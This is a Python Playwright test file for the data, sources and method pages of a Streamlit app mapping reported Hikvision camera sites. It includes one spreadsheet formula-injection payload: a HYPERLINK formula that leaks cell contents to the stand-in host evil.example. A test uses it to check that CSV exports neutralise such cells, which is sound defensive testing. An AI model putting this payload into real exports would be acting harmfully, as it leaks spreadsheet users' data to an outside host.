"""The data, sources and method pages in a real browser (Debian chromium through Playwright).

Streamlit's frontend, opened at a page's own address (``/data``), first looks
for the app's base path one level up: it asks ``/data/_stcore/health`` and
``/data/_stcore/host-config``, gets 404 and carries on at ``/``. Chromium logs
each as "Failed to load resource". ``PageWatch.assert_clean`` (conftest) accepts exactly those
console lines, and only when every 404 the page met was such a probe; any
other console error or failed request fails the test.

Each test opens ``/`` first: see ``test_a_direct_link_as_first_visit_runs_the_app``
for why.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from conftest import map_frame, scratch_data, start_app, stop_app, wait_for_text
from PIL import Image

from geo.outputs import export, press

pytestmark = pytest.mark.browser

COUNTS = re.compile(r"(\d+) of (\d+) sites · (\d+) of (\d+) claims")
FORMULA_CLAIM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'


def counts(page) -> tuple[int, int, int, int]:
    wait_for_text(page, " sites · ")
    text = page.get_by_text(COUNTS).first.inner_text()
    return tuple(int(g) for g in COUNTS.search(text).groups())  # type: ignore[return-value]


def open_app(page, base: str) -> None:
    page.goto(base + "/")
    map_frame(page, min_sites=0)


def download(page, button_label: str) -> bytes:
    button = page.get_by_role("button", name=re.compile(re.escape(button_label)))
    button.wait_for()
    with page.expect_download(timeout=60_000) as info:
        button.click()
    path = info.value.path()
    with open(path, "rb") as handle:
        return handle.read()


@pytest.mark.parametrize("query", ["?region=London", "?kind=parliament", "?region=Wales", "?q=Hancock"])
def test_the_table_and_the_map_count_the_same(app_url, watched_page, query):
    page = watched_page.page
    open_app(page, app_url)
    page.goto(app_url + "/" + query)  # the map is the default page, served at /
    map_frame(page, min_sites=0)
    for _ in range(40):  # the map may still show the previous selection for a moment
        wanted = counts(page)[0]
        _frame, state = map_frame(page, min_sites=0)
        if int(state["hikmapSites"]) == wanted:
            break
        page.wait_for_timeout(250)
    map_counts = counts(page)
    assert int(state["hikmapSites"]) == map_counts[0]

    page.goto(app_url + "/data" + query)
    wait_for_text(page, "The evidence as a table")
    table_counts = counts(page)
    assert table_counts == map_counts
    for part in query.lstrip("?").split("&"):
        assert part in page.url
    # the table's CSV holds exactly the counted claims
    raw = download(page, "Selection as CSV")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == table_counts[2]
    assert len({r["site_id"] for r in rows}) <= table_counts[0]
    watched_page.assert_clean()


@pytest.fixture(scope="module")
def formula_app(tmp_path_factory):
    """The app over a scratch copy of the data with a fictional claim whose text is a formula."""
    data = scratch_data(
        tmp_path_factory.mktemp("formula"),
        sites=[
            {
                "id": "fictional-formula-site",
                "name": "Fictional Formula Test Hall",
                "organisation": "@Fictional Test Body",
                "kind": "other-public-body",
                "address": "1 Fictional Street",
                "postcode": "CF10 3NQ",
                "precision": "building",
                "note": "Fictional test record",
            }
        ],
        claims=[
            {
                "id": "fictional-formula-claim",
                "site": "fictional-formula-site",
                "vendor": "other",
                "claim": FORMULA_CLAIM,
                "grade": "reported",
                "reported": "2024",
                "status": "reported",
                "sources": ["intercept-2019-hikvision-uk-parliament"],
                "response": "+1 fictional response",
            }
        ],
    )
    process, url = start_app(data_dir=data)
    yield url
    stop_app(process)


def test_a_claim_beginning_with_equals_cannot_run_as_a_formula(formula_app, watched_page):
    page = watched_page.page
    open_app(page, formula_app)
    page.goto(formula_app + "/data?q=Fictional%20Formula")
    wait_for_text(page, "The evidence as a table")
    assert counts(page)[0] == 1
    raw = download(page, "Selection as CSV")
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == 1
    row = dict(zip(header, body[0]))
    assert row["claim"] == "'" + FORMULA_CLAIM
    assert row["organisation"] == "'@Fictional Test Body"
    assert row["response"] == "'+1 fictional response"
    for cell in body[0]:
        assert export.neutralise_cell(cell) == cell, cell  # nothing left a spreadsheet would run
    # the raw bytes hold no line that begins a cell with "=" either
    assert not re.search(r'(^|,)"?=', text, re.MULTILINE)
    watched_page.assert_clean()


@pytest.mark.boundaries
def test_the_press_png_is_a_valid_image_of_the_promised_size(app_url, watched_page):
    page = watched_page.page
    open_app(page, app_url)
    page.goto(app_url + "/data?region=London")
    wait_for_text(page, "The evidence as a table")
    raw = download(page, "Press image: UK map with London")
    image = Image.open(io.BytesIO(raw))
    image.load()
    assert image.format == "PNG"
    assert image.size == (press.WIDTH_PX, press.HEIGHT_PX)
    assert image.width >= 1600
    assert "Region: London" in image.text["Description"]
    # the share link and the embed code on the page carry the filters
    share, embed = page.locator('[data-testid="stCode"]').all_inner_texts()[:2]
    assert share.endswith("/?region=London")
    assert "embed=true" in embed and "view=screenshot" in embed and "region=London" in embed
    watched_page.assert_clean()


def popup_source_link(page, base: str):
    """The first "about this source" link of a marker's popup, and the source id it names."""
    page.goto(base + "/?kind=parliament")
    frame, _state = map_frame(page, min_sites=1)
    frame.locator("path.hikmap-site").first.click()
    link = frame.locator(".hikmap-popup a.source-ref").first
    link.wait_for()
    href = link.get_attribute("href")
    return link, href, re.search(r"[?&]source=([a-z0-9-]+)", href).group(1)


def assert_lands_on_source(page, source_id: str) -> None:
    from geo.evidence.dataset import load_dataset

    box = page.locator(".st-key-sources_requested")
    box.wait_for(timeout=30_000)
    title = load_dataset().sources.set_index("id").loc[source_id, "title"]
    assert title in box.inner_text()
    # on screen without scrolling, and the full list keeps the source's stable anchor
    assert 0 <= box.bounding_box()["y"] < page.viewport_size["height"]
    assert box.get_by_role("heading", name=title).is_visible()
    anchor = page.locator(f"#source-{source_id}")
    anchor.first.wait_for(state="attached", timeout=30_000)  # the full list renders after the box
    assert anchor.count() == 1


def test_the_address_of_a_popup_source_link_lands_on_that_source(app_url, watched_page):
    page = watched_page.page
    _, href, source_id = popup_source_link(page, app_url)
    assert href == f"{app_url}/sources?source={source_id}"
    page.goto(href)
    assert_lands_on_source(page, source_id)
    watched_page.assert_clean()


def test_clicking_a_popup_source_link_lands_on_that_source(app_url, watched_page):
    page = watched_page.page
    link, _href, source_id = popup_source_link(page, app_url)
    context = page.context
    before = len(context.pages)
    link.click()
    landed = None
    for _ in range(40):  # the same tab, or a new one
        if "/sources?source=" in page.url:
            landed = page
        elif len(context.pages) > before:
            landed = context.pages[-1]
        if landed is not None:
            break
        page.wait_for_timeout(250)
    assert landed is not None, "the click did not open the sources page"
    landed.wait_for_load_state()
    assert_lands_on_source(landed, source_id)
    watched_page.assert_clean()


def test_sources_filter_by_kind_and_method_page(app_url, watched_page):
    page = watched_page.page
    open_app(page, app_url)
    from geo.evidence.dataset import load_dataset

    data = load_dataset()
    total = len(data.sources)
    page.goto(app_url + "/sources")
    wait_for_text(page, f"{total} of {total} sources")
    widget = page.locator('[data-testid="stMultiSelect"]').filter(has=page.get_by_text("Kind of source", exact=True))
    widget.locator("input").click()
    widget.locator("input").fill("Parliament")
    page.keyboard.press("Enter")
    page.keyboard.press("Escape")
    expected = int((data.sources["kind"] == "parliament").sum())
    wait_for_text(page, f"{expected} of {total} sources")
    page.goto(app_url + "/method")
    wait_for_text(page, "Evidence grades")
    for phrase in (
        "Official",
        "Documented",
        "Reported",
        "Organisation headquarters",
        "CC BY 4.0",
        "MIT License",
        "Royal Mail",
        "Office for National Statistics",
        f"version {data.version}",
        "Says it does not use it",
    ):
        wait_for_text(page, phrase)  # the page streams in; each phrase must appear
    watched_page.assert_clean()


def test_a_direct_link_as_first_visit_runs_the_app(chromium, tmp_path):
    process, url = start_app()
    try:
        context = chromium.new_context(viewport={"width": 1400, "height": 1000})
        page = context.new_page()
        page.goto(url + "/sources?source=intercept-2019-hikvision-uk-parliament")
        page.locator(".st-key-sources_requested").wait_for(timeout=30_000)
        assert page.locator('[data-testid="stSidebarNav"]').count() == 0
        assert page.title().startswith("Hikvision")
        context.close()
    finally:
        stop_app(process)
